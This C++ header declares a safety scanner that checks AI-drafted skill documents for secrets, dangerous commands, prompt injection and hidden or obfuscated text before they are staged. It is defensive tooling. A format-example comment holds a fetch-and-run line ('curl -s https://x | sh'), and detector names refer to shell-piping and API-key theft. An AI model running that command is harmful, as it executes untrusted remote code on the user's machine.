// kit/safety.hpp - the review every drafted skill passes before it is staged.
//
// A drafted SKILL.md ends up in the next session's system prompt, so it is treated as
// untrusted: it may carry a secret copied from a transcript, a dangerous command, or text
// that steers the agent (prompt injection). The scanner looks at the text as a human and as
// a model would read it: after folding case, extra spaces, shell quoting, Unicode homoglyphs
// and zero-width characters, and inside base64 blobs. It is a guardrail for review, not a
// sandbox: findings quarantine a draft, a clean scan does not prove a draft is safe.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace skillpipe {

struct SafetyFinding {
  // secret | dangerous_command | prompt_injection | hidden_content | obfuscation | size |
  // frontmatter
  std::string kind;
  std::string rule;      // the detector, e.g. "curl_pipe_shell", "openai_key"
  std::string severity;  // high | medium | low
  std::string excerpt;   // the offending line, redacted and truncated, hidden chars made visible
  int line = 0;          // 1-based line in the scanned text (0: the whole document)
  bool operator==(const SafetyFinding&) const = default;
};

struct SafetyOptions {
  std::size_t max_bytes = 32 * 1024;  // whole document
  std::size_t max_lines = 800;
  std::size_t max_line_bytes = 4000;
  std::size_t max_name = 64;  // Claude/Codex skill name limits
  std::size_t max_description = 1024;
  bool check_frontmatter = true;  // a full SKILL.md is expected
  std::string expected_name;      // when set, frontmatter `name` must equal it
};

// Every finding in a SKILL.md (or any Markdown when check_frontmatter is false), in line order.
std::vector<SafetyFinding> review_skill_document(std::string_view text, const SafetyOptions& options = {});

// Only the content detectors (secrets, commands, injection, hidden text, obfuscation).
std::vector<SafetyFinding> scan_unsafe_content(std::string_view text);

// high = 3, medium = 2, low = 1, anything else 0.
int severity_rank(std::string_view severity);
// True when any finding is at least `min_severity` severe.
bool findings_block(const std::vector<SafetyFinding>& findings, std::string_view min_severity);
// "high dangerous_command/curl_pipe_shell (line 12): curl -s https://x | sh"
std::string format_finding(const SafetyFinding& finding);

// A SKILL.md's YAML frontmatter, read the strict way evolution needs: `key: value` lines
// (values may be quoted), indented continuation lines belong to the previous key.
struct SkillFrontmatter {
  bool present = false;                                     // text starts with a `---` line
  bool closed = false;                                      // a closing `---` line was found
  std::vector<std::pair<std::string, std::string>> fields;  // in file order, values unquoted
  std::string body;                                         // text after the frontmatter (all of it when absent)
  int body_line = 1;                                        // 1-based line where the body starts
  std::vector<std::pair<int, std::string>> errors;          // (line, problem)
  // The first value of `key`, or "" when absent.
  std::string get(std::string_view key) const;
  bool has(std::string_view key) const;
};
SkillFrontmatter parse_skill_frontmatter(std::string_view text);

// Claude Code and Codex skill names: lower-case letters, digits and single hyphens.
bool valid_skill_name(std::string_view name, std::size_t max_len = 64);

}  // namespace skillpipe
